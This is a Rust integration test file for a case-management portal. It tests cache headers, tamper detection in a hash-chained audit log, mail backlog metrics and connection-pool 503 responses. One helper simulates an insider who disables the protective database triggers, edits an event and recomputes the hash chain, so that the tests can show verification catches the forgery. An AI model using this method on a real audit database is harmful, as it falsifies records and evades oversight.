    let (_, case_page) = page(&staff, app.url(&format!("/staff/cases/{number}"))).await;
    let identity = staff
        .post(app.url(&format!("/staff/cases/{number}/identity")))
        .form(&[("csrf", csrf_of(&case_page))])
        .send()
        .await
        .unwrap();
    assert_eq!(identity.status(), 200);
    assert!(cache_of(&identity).contains("no-store"));
    // Static files are the exception: cached, for a year when addressed by digest.
    let css = app.api.get(app.url("/static/app.css")).send().await.unwrap();
    assert!(!cache_of(&css).contains("no-store"), "{:?}", cache_of(&css));
}

/// What someone with write access to the database but without the audit key can do: edit
/// an event and recompute every hash after it with plain SHA-256 (`keyed: None`), or, to
/// stand for a database of the release before the key, with no edit.
fn rehash_without_the_key(
    db: &huiying::db::Db,
    backend: Backend,
    case_id: i64,
    edit: Option<(i32, &str, &str)>,
) {
    use diesel::connection::SimpleConnection;
    use huiying::domain::timeline::{GENESIS, HashInput};
    let mut conn = db.get().unwrap();
    let unlock = match backend {
        Backend::Sqlite => {
            "DROP TRIGGER IF EXISTS case_events_no_update; DROP TRIGGER IF EXISTS case_events_no_delete;"
        }
        Backend::Postgres => "ALTER TABLE case_events DISABLE TRIGGER case_events_no_update;",
    };
    conn.batch_execute(unlock).unwrap();
    if let Some((seq, from, to)) = edit {
        conn.batch_execute(&format!(
            "UPDATE case_events SET payload = replace(payload, '{from}', '{to}') WHERE case_id = {case_id} AND seq = {seq}"
        ))
        .unwrap();
    }
    let events = huiying::db::cases::events_of(&mut conn, case_id).unwrap();
    let mut prev = GENESIS.to_string();
    for e in &events {
        let hash = HashInput {
            case_id: e.case_id,
            seq: e.seq,
            kind: &e.kind,
            visibility: &e.visibility,
            actor_kind: &e.actor_kind,
            actor_id: e.actor_id,
            payload: &e.payload,
            at: e.created_at.and_utc(),
            prev_hash: &prev,
        }
        .legacy_hash();
        conn.batch_execute(&format!(
            "UPDATE case_events SET prev_hash = '{prev}', hash = '{hash}' WHERE id = {}",
            e.id
        ))
        .unwrap();
        prev = hash;
    }
    conn.batch_execute(&format!(
        "UPDATE cases SET last_event_hash = '{prev}' WHERE id = {case_id}"
    ))
    .unwrap();
}

async fn verify_all(app: &TestApp) -> Vec<huiying::service::audit::ChainBreak> {
    let (db, key) = (app.state.db.clone(), app.state.chain_key.clone());
    tokio::task::spawn_blocking(move || {
        huiying::service::audit::verify(&mut db.get().unwrap(), &key, None)
            .unwrap()
            .1
    })
    .await
    .unwrap()
}

both_backends!(
    a_chain_recomputed_without_the_audit_key_is_caught,
    chains_from_before_the_key_are_sealed_once_and_stay_verifiable,
);

async fn a_chain_recomputed_without_the_audit_key_is_caught(backend: Backend) {
    let app = spawn_app(backend).await;
    let filed = app.file(&complaint()).await;
    let number = filed["tracking_number"].as_str().unwrap().to_string();
    let env = app.token_for("env").await;
    app.act(&env, &number, "accept", serde_json::json!({})).await;
    assert!(verify_all(&app).await.is_empty());
    let db = app.state.db.clone();
    let case_id = tokio::task::spawn_blocking({
        let (db, number) = (db.clone(), number.clone());
        move || {
            huiying::db::cases::find_by_tracking_number(&mut db.get().unwrap(), &number)
                .unwrap()
                .unwrap()
                .id
        }
    })
    .await
    .unwrap();
    tokio::task::spawn_blocking(move || {
        rehash_without_the_key(&db, backend, case_id, Some((1, "web", "phone")))
    })
    .await
    .unwrap();
    let breaks = verify_all(&app).await;
    assert!(
        !breaks.is_empty(),
        "a consistent chain of plain hashes is not accepted"
    );
    assert_eq!(breaks[0].seq, Some(1), "{breaks:?}");
    assert!(breaks[0].problem.contains("without the audit key"), "{breaks:?}");

    // The portal refuses to start on this database with another key.
    let other = huiying::config::Settings {
        database_url: Some(app.db_url.clone()),
        data_dir: app.data_dir.clone(),
        audit_key: Some(base64_of(&[7u8; 32])),
        bind: "127.0.0.1:0".into(),
        ..huiying::config::Settings::default()
    };
    let refused = huiying::startup::Application::build(
        other,
        huiying::startup::Options {
            load_demo: false,
            ..Default::default()
        },
    )
    .await;
    let error = format!("{:#}", refused.err().expect("refused"));
    assert!(error.contains("audit key is not the one"), "{error}");
}

fn base64_of(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

async fn chains_from_before_the_key_are_sealed_once_and_stay_verifiable(backend: Backend) {
    use diesel::connection::SimpleConnection;
    let app = spawn_app(backend).await;
    let filed = app.file(&complaint()).await;
    let number = filed["tracking_number"].as_str().unwrap().to_string();
    let db = app.state.db.clone();
    // The database as the release before the key left it: plain hashes, no seal.
    let case_id = tokio::task::spawn_blocking({
        let (db, number) = (db.clone(), number.clone());
        move || {
            let id = huiying::db::cases::find_by_tracking_number(&mut db.get().unwrap(), &number)
                .unwrap()
                .unwrap()
                .id;
            rehash_without_the_key(&db, backend, id, None);
            db.get().unwrap().batch_execute("DELETE FROM audit_key").unwrap();
            id
        }
    })
    .await
    .unwrap();
    assert!(
        !verify_all(&app).await.is_empty(),
        "unsealed plain hashes do not pass"
    );

    let (key, now) = (app.state.chain_key.clone(), app.state.now());
    let anchored = db
        .write(move |conn| huiying::service::audit::seal_with(conn, &key, now))
        .await
        .unwrap();
    assert_eq!(anchored, 1);
    assert!(verify_all(&app).await.is_empty(), "sealed: its old events verify");
    let key = app.state.chain_key.clone();
    assert_eq!(
        db.write(move |conn| huiying::service::audit::seal_with(conn, &key, now))
            .await
            .unwrap(),
        0,
        "once"
    );

    // New events on it are keyed, and verify with the old ones.
    let env = app.token_for("env").await;
    assert_eq!(
        app.act(&env, &number, "accept", serde_json::json!({})).await.0,
        200
    );
    assert!(verify_all(&app).await.is_empty());

    // Rewriting the old part without the key breaks the seal.
    tokio::task::spawn_blocking(move || {
        rehash_without_the_key(&db, backend, case_id, Some((1, "web", "phone")))
    })
    .await
    .unwrap();
    assert!(!verify_all(&app).await.is_empty());
}

#[actix_web::test]
async fn mail_goes_out_over_several_connections_and_the_backlog_is_shown() {
    let (app, sink) = crate::residents::app_with_sink(Backend::Sqlite, false).await;
    sink.delay(std::time::Duration::from_millis(30));
    crate::mail::queue_notices(&app, 24).await;

    let metrics = app.metrics().await;
    assert!(
        metrics.contains("mail_backlog{which=\"waiting\"} 24"),
        "{metrics}"
    );
    assert!(metrics.contains("mail_backlog{which=\"due\"} 24"), "{metrics}");
    let admin = crate::staff_pages::signed_in(&app, "admin").await;
    let (_, page_html) = page(&admin, app.url("/admin/mail")).await;
    assert!(
        page_html.contains("待发送 24 封，其中 24 封已到发送时间"),
        "{page_html}"
    );

    let jobs = app.jobs_with_smtp(&sink.url());
    let now = app.state.now();
    let delivered = jobs.deliver(|| now).await.unwrap();
    assert_eq!(delivered.sent, 24);
    assert_eq!(sink.received().len(), 24);
    assert!(
        sink.busiest() >= 2,
        "delivered one at a time ({} at most)",
        sink.busiest()
    );
    let metrics = app.metrics().await;
    assert!(metrics.contains("mail_backlog{which=\"waiting\"} 0"), "{metrics}");
}

#[actix_web::test]
async fn a_full_connection_pool_is_answered_503_with_retry_after() {
    let app = spawn_app_with(Backend::Sqlite, |s| {
        s.pool_size = 2;
        s.pool_timeout_secs = 1;
    })
    .await;
    let filed = app.file(&complaint()).await;
    let number = filed["tracking_number"].as_str().unwrap().to_string();
    let db = app.state.db.clone();
    let held = tokio::task::spawn_blocking(move || (db.get().unwrap(), db.get().unwrap()))
        .await
        .unwrap();
    let response = app
        .api
        .get(app.url(&format!("/api/v1/cases/{number}")))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 503);
    assert!(response.headers().contains_key("retry-after"));
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["error"]["code"], "busy");
    let browser = app.browser("en");
    let (status, html) = page(&browser, app.url(&format!("/track?number={number}"))).await;
    assert_eq!(status, 503);
    assert!(html.contains("very busy"), "{html}");
    drop(held);
    assert_eq!(app.get_json(&format!("/api/v1/cases/{number}")).await.0, 200);
}
